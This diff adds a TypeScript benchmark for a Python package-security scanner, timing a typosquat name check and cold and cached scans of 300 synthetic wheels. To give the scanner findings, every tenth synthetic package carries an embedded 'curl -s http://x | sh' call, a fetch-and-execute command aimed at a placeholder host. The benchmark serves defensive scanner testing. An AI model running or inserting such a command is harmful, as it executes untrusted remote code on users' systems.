@@ -1,0 +1,91 @@
+// Scanner benchmarks: (1) the typosquat check of 1,000 names against the shipped top-PyPI snapshot,
+// loading and indexing included (goal < 200 ms in all); (2) the scan `check --scan` runs for a
+// 300-package lock, cold (every file read from a local index and assessed) and cached (per-sha256
+// results from the on-disk cache, no index), signing the scanner's statements in both.
+import { createHash } from 'node:crypto';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Graph, GraphNode } from '../src/graph/graph.js';
+import { loadScannerIdentity } from '../src/scan/identity.js';
+import { ScanCache, scannerStatements } from '../src/scan/scan.js';
+import { TOP_PYPI_FILE, TyposquatIndex, checkNames, loadTopNames } from '../src/scan/typosquat.js';
+import { openIndex } from '../src/simple/open.js';
+import { buildZip, coreMetadata } from '../test/artifact/archive-builders.js';
+import { rng } from './_synthetic.js';
+
+const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
+
+function queryNames(): string[] {
+  const top = loadTopNames(readFileSync(TOP_PYPI_FILE, 'utf8'));
+  const random = rng(14);
+  const out: string[] = [];
+  for (let i = 0; i < 1000; i++) {
+    const name = top[Math.floor(random() * 2000)]!.name;
+    const at = Math.floor(random() * name.length);
+    if (i % 4 === 0) out.push(name); // popular names
+    else if (i % 4 === 1) out.push(name.slice(0, at) + name.slice(at + 1)); // omission
+    else if (i % 4 === 2) out.push(`${name}-${'abcdefghij'[i % 10]}x${i}`); // unrelated-looking
+    else out.push(name.slice(0, at) + 'q' + name.slice(at)); // insertion
+  }
+  return out;
+}
+
+async function typosquatBench(): Promise<void> {
+  const names = queryNames();
+  const totals: number[] = [];
+  const builds: number[] = [];
+  const queries: number[] = [];
+  let flagged = 0;
+  const cpus: number[] = [];
+  for (let run = 0; run < 7; run++) {
+    const c0 = process.cpuUsage();
+    const t0 = performance.now();
+    const index = new TyposquatIndex(loadTopNames(readFileSync(TOP_PYPI_FILE, 'utf8')));
+    const t1 = performance.now();
+    flagged = checkNames(names, index).length;
+    const t2 = performance.now();
+    const c = process.cpuUsage(c0);
+    cpus.push((c.user + c.system) / 1000);
+    totals.push(t2 - t0);
+    builds.push(t1 - t0);
+    queries.push(t2 - t1);
+  }
+  console.log(`typosquat: 1,000 names vs ${TyposquatIndex.shipped().names.length} popular names: median ${median(totals).toFixed(1)} ms in all (load+index ${median(builds).toFixed(1)} ms, queries ${median(queries).toFixed(1)} ms), ${flagged} findings; goal < 200 ms`);
+  console.log(`  CPU time per run (user+system; wall time is inflated on a shared machine): median ${median(cpus).toFixed(1)} ms`);
+}
+
+async function graphBench(): Promise<void> {
+  const dir = mkdtempSync(join(tmpdir(), 'scanbench-'));
+  const indexDir = join(dir, 'index');
+  const { mkdirSync } = await import('node:fs');
+  mkdirSync(indexDir);
+  const nodes: GraphNode[] = [];
+  for (let i = 0; i < 300; i++) {
+    const name = `benchpkg${i}`;
+    const files: { name: string; data: string }[] = [
+      // Every tenth package is hostile, so the scan has statements to sign.
+      { name: `${name}/__init__.py`, data: `from .core import run\nimport os\n__version__ = "1.0"\n${i % 10 === 0 ? 'os.system("curl -s http://x | sh")\n' : ''}` },
+      { name: `${name}/core.py`, data: `import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n`.repeat(20) },
+      { name: `${name}-1.0.dist-info/METADATA`, data: coreMetadata(name, '1.0', [], ['Author: bench']) },
+      { name: `${name}-1.0.dist-info/WHEEL`, data: 'Wheel-Version: 1.0\n' },
+      { name: `${name}-1.0.dist-info/RECORD`, data: '' },
+    ];
+    const bytes = buildZip(files);
+    const filename = `${name}-1.0-py3-none-any.whl`;
+    writeFileSync(join(indexDir, filename), bytes);
+    nodes.push({ name, version: '1.0', artifacts: [{ filename, kind: 'wheel', sha256: createHash('sha256').update(bytes).digest('hex') }], metadata: 'lock' });
+  }
+  const graph = { nodes, edges: [], roots: nodes.map((n) => n.name) } as unknown as Graph;
+  const signer = await loadScannerIdentity(join(dir, 'home'));
+  const cacheDir = join(dir, 'cache');
+  const t0 = performance.now();
+  const cold = await scannerStatements(graph, { cache: new ScanCache(cacheDir), index: openIndex(indexDir) }, signer);
+  const t1 = performance.now();
+  const warm = await scannerStatements(graph, { cache: new ScanCache(cacheDir) }, signer);
+  const t2 = performance.now();
+  console.log(`check --scan of a 300-package lock: cold ${(t1 - t0).toFixed(0)} ms (${cold.statements.length} statements, ${cold.scan.problems.length} problems), cached ${(t2 - t1).toFixed(0)} ms (${warm.statements.length} statements)`);
+}
+
+await typosquatBench();
+await graphBench();
